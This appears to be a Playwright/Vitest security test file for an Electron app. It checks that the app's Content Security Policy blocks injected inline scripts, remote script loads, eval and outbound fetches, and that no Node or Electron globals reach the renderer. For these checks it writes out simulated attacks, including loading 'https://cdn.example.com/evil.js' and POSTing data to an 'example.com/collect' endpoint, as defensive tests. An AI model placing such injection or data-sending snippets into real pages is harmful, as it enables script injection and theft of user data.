/**
 * Security checklist items checked at run time, inside the page. The same specs run against
 * the built renderer in Chromium (served over 127.0.0.1 by the e2e bridge) and, where an
 * Electron binary is installed, against the app's own window through Playwright's _electron.
 * `item` is the number in Electron's security checklist (docs/SECURITY-CHECKLIST.md).
 */
import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import { contentSecurityPolicy } from '../../src/main/electron/policy';

export interface RuntimeCheck {
  item: string;
  name: string;
  run(page: Page): Promise<void>;
}

/** The functions of the contract's HearkenBridge: all window.hearken may hold. */
const bridgeFunctions = ['clearClipboardIf', 'grantDroppedFiles', 'invoke', 'on'];

/**
 * The acts the checks perform, installed in the page as real functions (no eval needed), and
 * a runner that records the CSP violations each act causes. Plain JavaScript in a string:
 * the tests' TypeScript has no DOM types, on purpose. Each act runs from the page's own event
 * loop, because code run inside DevTools' evaluate may eval whatever the CSP says.
 */
const pageActs = `(() => {
  if (window.__hearkenCheck) return;
  const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const acts = {
    async inlineScript() {
      const script = document.createElement('script');
      script.textContent = 'window.__hearkenInlineRan = true;';
      document.head.append(script);
      await pause(100);
      script.remove();
      return window.__hearkenInlineRan === true;
    },
    async remoteScript() {
      const script = document.createElement('script');
      script.src = 'https://cdn.example.com/evil.js';
      const loaded = new Promise((resolve) => {
        script.onload = () => resolve('loaded');
        script.onerror = () => resolve('blocked');
      });
      document.head.append(script);
      const outcome = await loaded;
      script.remove();
      return outcome;
    },
    async evalString() {
      try {
        return new Function('return 1 + 1')();
      } catch (error) {
        return error.name;
      }
    },
    async remoteFetch() {
      const outcomes = [];
      for (const url of ['https://example.com/collect', 'http://127.0.0.1:9/collect']) {
        outcomes.push(await fetch(url, { method: 'POST', body: 'x' }).then(() => 'sent', (error) => error.name));
      }
      return outcomes;
    },
  };
  window.__hearkenCheck = async (name) => {
    const violated = [];
    const record = (event) => violated.push(event.effectiveDirective);
    document.addEventListener('securitypolicyviolation', record);
    const result = await new Promise((resolve, reject) => setTimeout(() => acts[name]().then(resolve, reject), 0));
    await pause(300);
    document.removeEventListener('securitypolicyviolation', record);
    return { result, violated };
  };
})()`;

/** Runs the act named `act` in the page and returns what it got and the CSP directives it violated. */
async function violationsOf(page: Page, act: 'inlineScript' | 'remoteScript' | 'evalString' | 'remoteFetch'): Promise<{ result: unknown; violated: string[] }> {
  await page.evaluate(pageActs);
  return (await page.evaluate(`window.__hearkenCheck(${JSON.stringify(act)})`)) as { result: unknown; violated: string[] };
}

/** In this order: the first looks at what the page loaded before the others try to load more. */
export const sharedChecks: RuntimeCheck[] = [
  {
    item: '1',
    name: 'every resource the page loaded (scripts, styles, fonts) came from its own origin',
    async run(page) {
      const { origin, urls } = (await page.evaluate(`({
        origin: location.origin,
        urls: [
          ...performance.getEntriesByType('resource').map((entry) => entry.name),
          ...Array.from(document.querySelectorAll('script[src], link[href]'), (el) => el.src || el.href),
        ],
      })`)) as { origin: string; urls: string[] };
      expect(urls.length).toBeGreaterThan(0);
      for (const url of urls) expect(url.startsWith(`${origin}/`) || url.startsWith('data:'), url).toBe(true);
    },
  },
  {
    item: '7',
    name: 'an injected inline script does not run',
    async run(page) {
      const { result, violated } = await violationsOf(page, 'inlineScript');
      expect(result).toBe(false);
      expect(violated).toContain('script-src-elem');
    },
  },
  {
    item: '1, 7',
    name: 'a script from another origin is not loaded',
    async run(page) {
      const { result, violated } = await violationsOf(page, 'remoteScript');
      expect(result).toBe('blocked');
      expect(violated).toContain('script-src-elem');
    },
  },
  {
    item: '7',
    name: 'code from strings (eval, new Function) is refused',
    async run(page) {
      const { result, violated } = await violationsOf(page, 'evalString');
      expect(result).toBe('EvalError');
      expect(violated).toContain('script-src');
    },
  },
  {
    item: '1, 7',
    name: 'the page cannot send data to another origin, even on the same machine',
    async run(page) {
      const { result, violated } = await violationsOf(page, 'remoteFetch');
      expect(result).toEqual(['TypeError', 'TypeError']);
      // Each refused request is reported once per policy (the header's and the meta tag's).
      expect(violated.filter((d) => d === 'connect-src').length).toBeGreaterThanOrEqual(2);
    },
  },
  {
    item: '7',
    name: 'the page arrives with the CSP header, not only the meta tag',
    async run(page) {
      const header = await page.evaluate("fetch(location.pathname).then((response) => response.headers.get('content-security-policy'))");
      expect(header).toBe(contentSecurityPolicy);
    },
  },
  {
    item: '2, 3, 20',
    name: 'the page sees no Node.js or Electron, only the contract functions of window.hearken',
    async run(page) {
      const globals = (await page.evaluate(`({
        node: ['require', 'process', 'module', 'Buffer', 'global', '__dirname', 'ipcRenderer', 'electron', 'contextBridge'].filter((name) => typeof window[name] !== 'undefined'),
        hearken: Object.keys(window.hearken).sort(),
        types: Object.values(window.hearken).map((value) => typeof value),
      })`)) as { node: string[]; hearken: string[]; types: string[] };
      expect(globals.node).toEqual([]);
      expect(globals.hearken).toEqual(expect.arrayContaining(['invoke', 'on']));
      for (const key of globals.hearken) expect(bridgeFunctions, key).toContain(key);
      expect(new Set(globals.types)).toEqual(new Set(['function']));
    },
  },
];
